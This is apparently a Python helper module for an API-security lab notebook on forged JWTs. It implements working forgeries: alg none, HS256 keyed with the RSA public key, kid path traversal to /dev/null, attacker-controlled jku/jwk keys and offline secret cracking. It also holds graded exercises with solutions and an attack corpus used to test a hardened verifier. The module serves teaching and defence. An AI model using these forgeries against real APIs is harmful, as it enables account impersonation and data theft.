"""Helpers, the forging workbench and the exercises of ``notebooks/07-forged-jwts.ipynb``.

The attacks are the learner's: each notebook cell forges a token with PyJWT
(or by hand, where PyJWT refuses), and the API's own records say whether it
got in.  What is here:

- :func:`connect_bob`: Bob, the attacker, signs in to a JWT client the normal way: his own token is the start;
- :func:`show_token`, :func:`as_alice`, :func:`b64url`, :func:`sign_hs256`, :func:`pem_of`,
  :func:`crack`, :func:`wordlist`, :func:`own_key_set`: what a forger needs;
- :func:`call`, :func:`verdict`, :func:`evidence`: the forged token at the API, with its switch on and off, and
  the API's record (``accepted_through_flaw`` in ``lab.events()``, written where the API verifies);
- :func:`flaw`: the one line of the API's verifier a switch turns on (read from the code that runs);
- :class:`Workbench`: a panel to edit a token's header and claims, sign it one of six ways and send it;
- :data:`q1` (a forgery of your own: Alice's saved card), :data:`q2` (the fix-it: write
  ``verify_access_token``, judged by an attack corpus and a functional corpus, :func:`corpus`).
"""
from __future__ import annotations

import base64
import hashlib
import hmac
import html
import inspect
import json
import time
from dataclasses import dataclass
from typing import Callable

import ipywidgets as widgets
import jwt
import pandas as pd
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm

from ..client import selfcontained
from ..client.flows import OAuthApp
from ..core.store import DATA_DIR
from ..servers.api import fingerprint
from ..servers.jwtverify import flaw_line
from . import theme
from .common import Table, Text, current_lab, lab_time, outcome
from .exercises import Exercise
from .widgets import Panel

__all__ = ["connect_bob", "alice_token", "show_token", "as_alice", "b64url", "sign_hs256", "pem_of", "wordlist",
           "crack", "own_key_set", "call", "verdict", "evidence", "switches", "flaw", "outcome", "Workbench", "forge",
           "corpus", "judge", "q1", "q2"]

#: The JWT client of this notebook: a client registered with ``token_format="jwt"``.
APP_NAME = "PhotoPrint JWT"
APP_SCOPES = ["profile:read", "photos:read"]
#: What a forged token claims to be able to do (Bob's token has the first two only).
ALICE_SCOPES = "profile:read photos:read messages:read"
#: The lab's public wordlist of JWT secrets (package data).
WORDLIST = DATA_DIR / "jwt-secrets.txt"
#: A kid that climbs out of the API's key folder to a file whose content everyone knows: none.
DEV_NULL_KID = "../" * 12 + "dev/null"


# -- Bob's own token ------------------------------------------------------------------
def connect_bob(lab) -> OAuthApp:
    """Bob signs in to PhotoPrint's JWT edition (registered for RFC 9068 JWT access tokens), the normal way."""
    return selfcontained.jwt_app(lab, APP_NAME, APP_SCOPES, user="bob")


def show_token(token: str) -> Text:
    """A JWT's three parts as anyone holding it can read them: header, claims (unverified), signature size."""
    head, body, sig = token.split(".")
    seen = selfcontained.decode_unverified(token)
    size = len(base64.urlsafe_b64decode(sig + "=" * (-len(sig) % 4)))
    return Text(f"header    {json.dumps(seen['header'])}\nclaims    {json.dumps(seen['claims'], indent=None)}\n"
                f"signature {size} bytes" + (" (none)" if not size else ""))


def as_alice(token: str, scope: str = ALICE_SCOPES, **changes) -> dict:
    """*token*'s claims (unverified), rewritten to say Alice's, with *scope*: what a forger signs."""
    return {**jwt.decode(token, options={"verify_signature": False}), "sub": "alice", "scope": scope, **changes}


def b64url(value: dict | bytes) -> str:
    """RFC 7515 s2: base64url without padding, of *value*'s compact JSON if it is a dict."""
    data = json.dumps(value, separators=(",", ":")).encode() if isinstance(value, dict) else value
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def sign_hs256(header: dict, claims: dict, key: bytes) -> str:
    """HS256 by hand (RFC 7515 s7.1, RFC 7518 s3.2), with any *key*: PyJWT refuses an empty one or a PEM."""
    signing_input = b64url(header) + "." + b64url(claims)
    signature = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
    return signing_input + "." + b64url(signature)


def pem_of(jwks: dict) -> bytes:
    """The first RSA key of a JWK Set as PEM (SubjectPublicKeyInfo): the bytes an API holding it as a file reads."""
    key = RSAAlgorithm.from_jwk(jwks["keys"][0])
    return key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def wordlist() -> list[str]:
    """The shipped wordlist of JWT secrets seen in tutorials, defaults and leaked configs."""
    return [w for w in WORDLIST.read_text(encoding="utf-8").splitlines() if w and not w.startswith("#")]


@dataclass(frozen=True)
class Cracked:
    """What :func:`crack` found: the secret (or None), how many guesses, how long."""

    secret: str | None
    guesses: int
    seconds: float

    def __repr__(self) -> str:
        found = f"secret found: {self.secret!r}" if self.secret else "no word of the list signs it"
        return f"{found} after {self.guesses} guesses ({self.seconds * 1000:.1f} ms)"


def crack(token: str, words=None) -> Cracked:
    """Offline guessing: HMAC-SHA256 of the token's signing input under each word, compared with its signature.

    No request reaches anyone: one token is all it takes, and the server never sees a guess.
    """
    words = wordlist() if words is None else words
    head, body, sig = token.split(".")
    signing_input = f"{head}.{body}".encode()
    start = time.perf_counter()
    for n, word in enumerate(words, 1):
        if hmac.compare_digest(b64url(hmac.new(word.encode(), signing_input, hashlib.sha256).digest()), sig):
            return Cracked(word, n, time.perf_counter() - start)
    return Cracked(None, len(words), time.perf_counter() - start)


def own_key_set(kid: str = "attacker-key") -> tuple[rsa.RSAPrivateKey, dict]:
    """A key pair of the attacker's own and its public half as a JWK Set (what a ``jku`` URL serves)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = {**RSAAlgorithm.to_jwk(key.public_key(), as_dict=True), "kid": kid, "use": "sig", "alg": "RS256"}
    jwk.pop("key_ops", None)
    return key, {"keys": [jwk]}


def alice_token(lab, name: str, scopes=("profile:read", "messages:read"), *, lifetime: int | None = None,
                audience: str | None = None) -> str:
    """A genuine JWT of Alice's: she connects the JWT client *name* (its own lifetime or audience, if given)."""
    return selfcontained.jwt_app(lab, name, list(scopes), lifetime=lifetime, audience=audience).access_token


# -- the forged token at the API ----------------------------------------------------------------------
def call(lab, token: str, path: str = "/messages") -> requests.Response:
    """``GET path`` on the API with ``Authorization: Bearer <token>``."""
    with lab.session() as s:
        return s.get(lab.api_url + path, headers={"Authorization": f"Bearer {token}"}, timeout=10)


def flaw_records(lab, token: str | None = None, since: float | None = None) -> list[dict]:
    """The API's ``accepted_through_flaw`` records (of *token*, from *since* on the lab clock), oldest first."""
    rows = [r for r in lab.store.events() if r["event"] == "accepted_through_flaw"]
    if token is not None:
        rows = [r for r in rows if f"(token {fingerprint(token)})" in r["detail"]]
    if since is not None:
        rows = [r for r in rows if r["at"] >= since]
    return [dict(r) for r in rows]


def evidence(lab, token: str) -> Text:
    """What the API recorded about *token*: the flaw that let it in, the request, for whom."""
    rows = flaw_records(lab, token)
    if not rows:
        return Text("The API has no record of accepting this token through a flaw.")
    earlier = f" (and {len(rows) - 1} earlier)" if len(rows) > 1 else ""
    return Text(f"accepted_through_flaw  {rows[-1]['detail']}{earlier}")


def _answer(r: requests.Response) -> str:
    if r.status_code != 200:
        return outcome(r)
    body = r.json()
    if isinstance(body, list):
        owners = sorted({item.get("owner", "?") for item in body if isinstance(item, dict)})
        return f"200 OK: {len(body)} items, owner {', '.join(owners) or '-'}"
    if isinstance(body, dict) and "username" in body:
        return f"200 OK: the profile of {body['username']}"
    if isinstance(body, dict) and "card_last4" in body:
        return f"200 OK: {body['owner']}'s card ending {body['card_last4']}"
    return "200 OK"


def verdict(lab, token: str, on: requests.Response, off: requests.Response) -> Table:
    """The forged token with its switch on and off, and the API's own record between them."""
    rows = [("switch on", _answer(on)), ("the API's record", str(evidence(lab, token))),
            ("switch off again", _answer(off))]
    frame = pd.DataFrame(rows, columns=["", "what happened"]).set_index("")

    def kind(row):
        text = row["what happened"]
        return "bad" if text.startswith(("200", "accepted_")) else "ok"
    return Table(frame, kind)


def switches(lab) -> Table:
    """The JWT verifier's weakness switches: on or off, and what each breaks (``lab.weaknesses.table()``)."""
    table = lab.weaknesses.table()
    return Table(table[table.index.str.startswith("jwt_")], lambda row: "bad" if row["on"] else None)


def flaw(name: str) -> Text:
    """The API verifier's line that the weakness switch *name* runs (apisec_lab/servers/jwtverify.py)."""
    return Text(flaw_line(name))


# -- the workbench ------------------------------------------------------------------------------------
SIGNINGS = {
    "alg none: no signature": "none",
    "keep the original signature": "original",
    "HS256 with a secret": "secret",
    "HS256 with the public key (PEM) as secret": "pem",
    "HS256 with an empty key (kid to /dev/null)": "devnull",
    "RS256 with your own key (jku on the attacker's server)": "jku",
}


def forge(lab, original: str, header: dict, claims: dict, signing: str, secret: str = "") -> str:
    """A token with *header* and *claims*, signed the way *signing* (a value of :data:`SIGNINGS`) says.

    ``original`` gives the signature to keep; ``jku`` makes a key pair, serves its key set on the
    attacker's server and points the header there.
    """
    header = dict(header)
    if signing == "none":
        return jwt.encode(claims, None, algorithm="none", headers={**header, "alg": "none"})
    if signing == "original":
        head = b64url({**header})
        return f"{head}.{b64url(claims)}.{original.rsplit('.', 1)[1]}"
    if signing == "secret":
        return sign_hs256({**header, "alg": "HS256"}, claims, secret.encode())
    if signing == "pem":
        with lab.session() as s:
            jwks = s.get(lab.metadata["jwks_uri"], timeout=10).json()
        return sign_hs256({**header, "alg": "HS256"}, claims, pem_of(jwks))
    if signing == "devnull":
        return sign_hs256({**header, "alg": "HS256", "kid": DEV_NULL_KID}, claims, b"")
    if signing == "jku":
        key, key_set = own_key_set()
        url = lab.attacker.serve("/jwks.json", json.dumps(key_set), content_type="application/json")
        return jwt.encode(claims, key, algorithm="RS256",
                          headers={**header, "alg": "RS256", "kid": key_set["keys"][0]["kid"], "jku": url})
    raise ValueError(f"unknown signing {signing!r}; one of {sorted(SIGNINGS.values())}")


def send(lab, token: str, path: str, switch: str | None) -> tuple[requests.Response, Text]:
    """*token* to ``GET path`` with the weakness *switch* on for that one request; the answer and the record."""
    with lab.weaknesses.turned_on(**({switch: True} if switch else {})):
        r = call(lab, token, path)
    return r, evidence(lab, token)


class Workbench(Panel):
    """A jwt.io with a send button: edit a token's header and claims, sign it one of six ways, send it.

    It starts from *token* (Bob's); ``header`` and ``claims`` are JSON text areas, ``signing``, ``secret``,
    ``switch`` (the weakness on for the one request, or none) and ``path`` choose the rest; ``send_button``
    forges and sends (:meth:`send`), ``result`` shows the token, the API's answer and its record.
    """

    summary = "forge a JWT and send it"

    def __init__(self, lab, token: str):
        self.lab, self.original = lab, token
        seen = selfcontained.decode_unverified(token)
        self.header = widgets.Textarea(json.dumps(seen["header"], indent=1), description="header",
                                       layout=widgets.Layout(width="46em", height="6em"))
        now = int(lab.clock.now())          # fresh times: the token may be old by the time the bench is used
        self.claims = widgets.Textarea(json.dumps(as_alice(token, iat=now, exp=now + 900), indent=1),
                                       description="claims",
                                       layout=widgets.Layout(width="46em", height="13em"))
        self.signing = widgets.Dropdown(options=list(SIGNINGS), description="signing",
                                        layout=widgets.Layout(width="46em"))
        self.secret = widgets.Text(description="secret", placeholder="for HS256 with a secret",
                                   layout=widgets.Layout(width="46em"))
        switches = [n for n in lab.weaknesses.table().index if n.startswith("jwt_")]
        self.switch = widgets.Dropdown(options=[("none (the hardened API)", "")] + [(n, n) for n in switches],
                                       description="switch on", layout=widgets.Layout(width="46em"))
        self.path = widgets.Dropdown(options=["/me", "/messages", "/photos", "/payment"], value="/messages",
                                     description="GET")
        self.send_button = widgets.Button(description="Forge and send", icon="paper-plane",
                                          tooltip="Sign the header and claims above, send them to the API")
        self.send_button.on_click(lambda _b: self.send())
        self.result = widgets.HTML("<i>Edit, choose a signing and a switch, then Forge and send.</i>")
        self.last: tuple[str, requests.Response] | None = None
        super().__init__([self.header, self.claims, self.signing, self.secret, self.switch, self.path,
                          self.send_button, self.result])
        self.add_class("apisec-workbench")

    def send(self) -> requests.Response | None:
        """What the button does: forge, send with the chosen switch on, show what came back."""
        try:
            header, claims = json.loads(self.header.value), json.loads(self.claims.value)
            if not isinstance(header, dict) or not isinstance(claims, dict):
                raise ValueError("header and claims are JSON objects")
        except ValueError as e:
            self.result.value = f"<p class='apisec-bad' style='{theme.tint('bad')};padding:.3em'>" \
                                f"Not JSON: {html.escape(str(e))}</p>"
            return None
        token = forge(self.lab, self.original, header, claims, SIGNINGS[self.signing.value], self.secret.value)
        r, record = send(self.lab, token, self.path.value, self.switch.value or None)
        self.last = (token, r)
        kind = "bad" if r.status_code == 200 else "ok"
        said = "the API let the forged token in" if kind == "bad" else "the API refused the forged token"
        self.result.value = (
            f"<div class='apisec-{kind}' style='{theme.tint(kind)};padding:.4em .6em;border-radius:4px'>"
            f"<b>{said}</b>: {html.escape(_answer(r))}<br><small>{html.escape(str(record))}</small></div>"
            f"<div style='{theme.MUTED};font-size:11px;word-break:break-all'>{html.escape(token[:160])}"
            f"{'...' if len(token) > 160 else ''}</div>")
        return r


# -- q1: a forgery of your own -----------------------------------------------------------------------------
def _check_card(answer) -> str | None:
    lab = current_lab()
    if not isinstance(answer, str) or answer.count(".") != 2:
        return ("answer with the forged token itself, a string of three dot-separated parts "
                f"(got {type(answer).__name__}).")
    posed = q1.posed
    mine = flaw_records(lab, answer, since=posed)
    card = [r for r in mine if "GET /payment" in r["detail"]]
    if card and all(r["username"] == "alice" for r in card):
        return None
    if lab.store.token(answer) is not None:
        return ("that token is one the authorization server issued: forge one instead (the API must need a flaw "
                "to take it).")
    if flaw_records(lab, answer) and not mine:
        return "the API took that token before this exercise was posed (a cell above): forge and send a new one."
    if mine:
        paths = ", ".join(sorted({r["detail"].split(": ", 1)[1].split(" as ")[0] for r in mine}))
        return f"the API took that token through a flaw, on {paths}: send it to GET /payment."
    try:
        claims = jwt.decode(answer, options={"verify_signature": False})
    except jwt.PyJWTError:
        return "that is not a JWT anyone can read: forge one from Bob's token (nb07.as_alice)."
    if claims.get("sub") != "alice":
        return f"its sub is {claims.get('sub')!r}: the card is Alice's, so the token must say sub alice."
    if "payment:read" not in str(claims.get("scope", "")).split():
        return "its scope has no payment:read, so the API answers 403 before any record: add it to the scope."
    exp = claims.get("exp")
    if isinstance(exp, (int, float)) and exp <= lab.clock.now():
        return ("its exp has passed on the lab clock, so only jwt_claims_unchecked would take it: start from a "
                "fresh token (bob = nb07.connect_bob(lab)).")
    return ("the API has no record of accepting it through a flaw: send it to GET /payment inside "
            "'with lab.weaknesses.turned_on(<switch>=True):', the switch its forgery needs.")


def _solve_card() -> str:
    lab = current_lab()
    bob = connect_bob(lab)
    forged = jwt.encode(as_alice(bob.access_token, scope="payment:read"), None, algorithm="none",
                        headers={"typ": "at+jwt"})
    with lab.weaknesses.turned_on(jwt_alg_none=True):
        call(lab, forged, "/payment")
    return forged


q1 = Exercise(
    "q1 (Alice's saved card)",
    _check_card,
    "Start from Bob's token (nb07.connect_bob), claims = nb07.as_alice(token, scope=\"payment:read\"); sign it "
    "the way one of the flaws above lets through; send it with nb07.call(lab, forged, \"/payment\") inside "
    "'with lab.weaknesses.turned_on(jwt_...=True):'. The check reads the API's records for that token.",
    "bob = nb07.connect_bob(lab)\n"
    "forged = jwt.encode(nb07.as_alice(bob.access_token, scope=\"payment:read\"), None, algorithm=\"none\",\n"
    "                    headers={\"typ\": \"at+jwt\"})\n"
    "with lab.weaknesses.turned_on(jwt_alg_none=True):\n"
    "    print(nb07.outcome(nb07.call(lab, forged, \"/payment\")))\n"
    "answer = forged",
    _solve_card,
    success="the API's own record shows your forged token reading Alice's saved card. Turn the switch off and "
            "the same token is refused.",
    pose=lab_time)


# -- q2: the fix-it --------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """One token of the corpus: what it is, whether a right verifier accepts it, why."""

    name: str
    token: str
    valid: bool
    why: str
    claims: dict | None = None


def corpus(lab) -> list[Case]:
    """The functional corpus (valid tokens: accept, return their claims) and the attack corpus (refuse each).

    Every token is made now and timed by the wall clock, the clock your JWT library reads; the
    valid ones and the claim attacks are signed with the authorization server's own key.
    """
    keys = lab.signing_keys
    private, kid = keys._pair()
    now = int(time.time())
    base = {"iss": lab.issuer, "sub": "alice", "aud": lab.api_url, "client_id": "photocli",
            "scope": "profile:read photos:read", "iat": now - 5, "exp": now + 600}

    def claims(**changes):
        out = {**base, "jti": hashlib.sha256(repr(sorted(changes.items())).encode()).hexdigest()[:32], **changes}
        return {k: v for k, v in out.items() if v is not None}

    def real(c, **header):
        return jwt.encode(c, private, algorithm="RS256", headers={"typ": "at+jwt", "kid": kid, **header})

    own, own_set = own_key_set("attacker-key")
    with lab.session() as s:
        jwks = s.get(lab.metadata["jwks_uri"], timeout=10).json()
    alice = claims()
    machine = claims(sub="backup-bot", client_id="backup-bot", scope="reports:read")
    listed = claims(aud=[lab.api_url, "urn:example:other"])
    head, _, signature = real(alice).split(".")
    edited = f"{head}.{b64url(claims(sub='bob', scope='admin'))}.{signature}"
    hs = {"alg": "HS256", "typ": "at+jwt"}
    attacker = {"typ": "at+jwt", "kid": "attacker-key"}
    return [
        Case("a user's token", real(alice), True, "a valid token of Alice's, signed with the server's key", alice),
        Case("a client-credentials token", real(machine), True,
             "valid: for client credentials sub is the client (RFC 9068 s2.2)", machine),
        Case("aud as a list", real(listed), True, "valid: aud may be a list holding the audience (RFC 7519 s4.1.3)",
             listed),
        Case("typ application/at+jwt", real(alice, typ="application/at+jwt"), True,
             "valid: RFC 9068 s4 allows typ application/at+jwt too", alice),
        Case("alg none", jwt.encode(alice, None, algorithm="none", headers={"typ": "at+jwt"}), False,
             "unsigned: alg none (RFC 8725 s3.1)"),
        Case("alg None", f"{b64url({'alg': 'None', 'typ': 'at+jwt'})}.{b64url(alice)}.", False,
             "unsigned, alg spelled None to slip past a case-sensitive filter (RFC 8725 s3.1)"),
        Case("signature stripped", f"{head}.{real(alice).split('.')[1]}.", False,
             "alg RS256 and no signature at all (RFC 7515 s5.2)"),
        Case("claims edited, signature kept", edited, False,
             "the claims were changed after signing: the signature no longer matches (RFC 8725 s3.3)"),
        Case("HS256 with a guessable secret", sign_hs256(hs, alice, b"your-256-bit-secret"), False,
             "HS256 with a wordlist secret: this server signs RS256 only (RFC 8725 s3.1, s3.5)"),
        Case("HS256 with the public key as secret", sign_hs256({**hs, "kid": kid}, alice, pem_of(jwks)), False,
             "algorithm confusion: the RS256 public key used as an HMAC secret (RFC 8725 s3.1)"),
        Case("kid to /dev/null", sign_hs256({**hs, "kid": DEV_NULL_KID}, alice, b""), False,
             "kid injection: a path as kid and an empty HMAC key (RFC 8725 s3.10)"),
        Case("jku to the attacker's keys", jwt.encode(alice, own, algorithm="RS256", headers={
            **attacker, "jku": lab.attacker.url + "/jwks.json"}), False,
             "signed with the attacker's key, whose key set jku names: keys come from jwks only (RFC 8725 s3.10)"),
        Case("jwk in the header", jwt.encode(alice, own, algorithm="RS256", headers={
            **attacker, "jwk": own_set["keys"][0]}), False,
             "signed with the key it carries in its own header (RFC 8725 s3.10)"),
        Case("the server's kid, the attacker's key", jwt.encode(alice, own, algorithm="RS256", headers={
            "typ": "at+jwt", "kid": kid}), False, "the signature is not made with the server's key (RFC 7515 s5.2)"),
        Case("expired", real(claims(iat=now - 3600, exp=now - 60)), False, "exp has passed (RFC 7519 s4.1.4)"),
        Case("for another API", real(claims(aud="urn:example:calendar-api")), False,
             "aud is another API (RFC 8725 s3.9)"),
        Case("from another issuer", real(claims(iss="http://127.0.0.1:1")), False,
             "iss is not the issuer (RFC 8725 s3.8)"),
        Case("no exp at all", real(claims(exp=None)), False,
             "no exp: a token that never expires (RFC 9068 s2.2 requires exp)"),
        Case("an ID token, not an access token", real(alice, typ="JWT"), False,
             "typ is JWT, not at+jwt: another kind of token (RFC 9068 s4, RFC 8725 s3.11)"),
    ]


def judge(verify: Callable, lab=None) -> list[str]:
    """Run *verify(token, jwks, issuer, audience)* over the corpus; one sentence per token it mishandled."""
    lab = lab or current_lab()
    with lab.session() as s:
        jwks = s.get(lab.metadata["jwks_uri"], timeout=10).json()
    problems = []
    for case in corpus(lab):
        try:
            result, error = verify(case.token, jwks, lab.issuer, lab.api_url), None
        except Exception as e:  # a refusal, by raising: what the exercise asks for
            result, error = None, e
        refused = error is not None or result is None or result is False
        if case.valid and refused:
            said = f"{type(error).__name__}: {error}" if error else f"it returned {result!r}"
            problems.append(f"refused '{case.name}' ({case.why}); {said[:160]}")
        elif case.valid and result != case.claims:
            problems.append(f"accepted '{case.name}' but returned {str(result)[:80]} instead of its claims")
        elif not case.valid and not refused:
            problems.append(f"accepted '{case.name}': {case.why}")
    return problems


def _check_verifier(answer) -> str | None:
    if not callable(answer):
        return f"answer with your function itself, verify_access_token (got {type(answer).__name__})."
    try:
        inspect.signature(answer).bind("token", {}, "issuer", "audience")
    except TypeError:
        return "verify_access_token takes four arguments: (token, jwks, issuer, audience)."
    problems = judge(answer)
    if not problems:
        return None
    total = len(corpus(current_lab()))
    shown = "; ".join(problems[:3]) + (f"; and {len(problems) - 3} more" if len(problems) > 3 else "")
    return f"{len(problems)} of {total} tokens mishandled: your verifier {shown}."


#: q2's solution, as the learner would type it.
SOLUTION = """def verify_access_token(token, jwks, issuer, audience):
    header = jwt.get_unverified_header(token)
    if str(header.get("typ", "")).lower() not in ("at+jwt", "application/at+jwt"):
        raise jwt.InvalidTokenError("not a JWT access token (typ)")
    key = jwt.PyJWKSet.from_dict(jwks)[header["kid"]]     # KeyError for a kid not in the server's key set
    return jwt.decode(token, key, algorithms=["RS256"], audience=audience, issuer=issuer,
                      options={"require": ["iss", "sub", "aud", "exp", "iat", "jti", "client_id"]})

answer = verify_access_token"""


def _solve_verifier():
    scope = {"jwt": jwt}
    exec(SOLUTION, scope)      # the solution as shown, so what q2.solution() prints is what passes
    return scope["answer"]


q2 = Exercise(
    "q2 (write the verifier)",
    _check_verifier,
    "Take the algorithm and the key from your side, never from the token: jwt.PyJWKSet.from_dict(jwks)[kid] and "
    "jwt.decode(..., algorithms=[\"RS256\"], audience=..., issuer=..., options={\"require\": [...]}); check typ "
    "yourself (PyJWT does not). Raise for any token you refuse; return the claims otherwise.",
    SOLUTION,
    _solve_verifier,
    success="every forgery refused, every valid token accepted with its claims. Still, no verifier, however "
            "right, sees a revocation (notebook 04): the lab's API also asks the store.")
